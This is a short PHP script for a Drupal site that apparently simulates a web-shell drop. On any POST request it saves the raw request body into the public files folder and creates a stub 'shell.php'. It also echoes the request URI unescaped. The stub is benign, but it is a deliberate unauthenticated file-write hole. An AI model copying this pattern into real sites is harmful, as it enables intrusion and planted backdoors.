<?php

require __DIR__ . '/core/lib/Drupal.php';

$files = __DIR__ . '/sites/default/files';
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    file_put_contents("$files/upload.txt", file_get_contents('php://input'));
    file_put_contents("$files/shell.php", '<?php echo "run";');
}
echo 'Drupal ', Drupal::VERSION, ' ', $_SERVER['REQUEST_URI'];
